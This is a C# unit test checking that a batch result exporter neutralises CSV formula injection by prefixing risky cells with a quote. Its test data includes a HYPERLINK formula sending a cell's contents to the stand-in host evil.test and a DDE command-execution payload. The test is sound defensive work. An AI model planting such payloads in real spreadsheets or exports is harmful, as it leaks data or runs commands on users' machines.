using System.Text;
using ContentFlows.Activities.Batches;
using ContentFlows.Activities.Datasets;
using ContentFlows.Workflows.Batches;
using Microsoft.Extensions.DependencyInjection;

namespace ContentFlows.Activities.Tests.Batches;

[Collection(BatchEnvironmentCollection.Name)]
public sealed class BatchResultExporterTests(BatchEnvironmentFixture fixture)
{
    [Fact]
    public async Task ExportAsync_ReasonsShapedLikeSpreadsheetFormulas_WrittenAsTextWithALeadingQuote()
    {
        string[] reasons = ["=HYPERLINK(\"http://evil.test/?x=\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain reason", "a = b"];
        var project = await fixture.CreateProjectAsync();
        var definition = await fixture.CreateDefinitionAsync(project.Id);
        using var upload = new MemoryStream(Encoding.UTF8.GetBytes("topic\n" + string.Concat(reasons.Select((_, i) => $"Item {i}\n"))));
        var dataset = await Services.GetRequiredService<DatasetImporter>().ImportAsync(project.Id, "formulas", upload, DataFileFormat.Csv, CancellationToken.None);
        var batchId = Guid.NewGuid();
        var store = Services.GetRequiredService<BatchStore>();
        await store.CreateAsync(new BatchRecord(batchId, project.Id, dataset.DatasetId, definition.DefinitionId, definition.Version, ["en"], reasons.Length, $"batch-{batchId:N}"), CancellationToken.None);
        await store.RecordResultsAsync(
            new RecordResultsRequest(batchId, reasons.Select((reason, i) => new BatchItemOutcome(new BatchUnit(i, "en", 0), null, null, BatchItemStatus.Failed, null, null, reason)).ToList()),
            CancellationToken.None);

        using var csv = new MemoryStream();
        await Services.GetRequiredService<BatchResultExporter>().ExportAsync(batchId, DataFileFormat.Csv, csv, CancellationToken.None);

        var exported = (await store.ListResultsAsync(batchId, CancellationToken.None)).Select(r => r.Reason).ToList();
        Assert.Equal(reasons, exported);
        var text = Encoding.UTF8.GetString(csv.ToArray());
        var cells = await ReasonCellsAsync(text);
        Assert.Equal(reasons.Select(r => r.Length > 0 && "=+-@\t\r".Contains(r[0], StringComparison.Ordinal) ? "'" + r : r), cells);
    }

    private IServiceProvider Services => fixture.Services;

    // The reason field of each record (quoted where it holds quotes, commas or line breaks).
    private static async Task<List<string>> ReasonCellsAsync(string csv)
    {
        var cells = new List<string>();
        await using var reader = CsvHelper.CsvReader.Create(new MemoryStream(Encoding.UTF8.GetBytes(csv)), CsvHelper.CsvReaderOptions.Default with { Separator = ',', AllowLineBreaksInQuotes = true }, leaveOpen: false);
        await reader.ReadHeaderAsync(CancellationToken.None);
        var reason = Array.IndexOf(reader.Headers.ToArray(), "reason");
        while (await reader.ReadAsync(CancellationToken.None))
        {
            cells.Add(reader.GetString(reason));
        }

        return cells;
    }
}
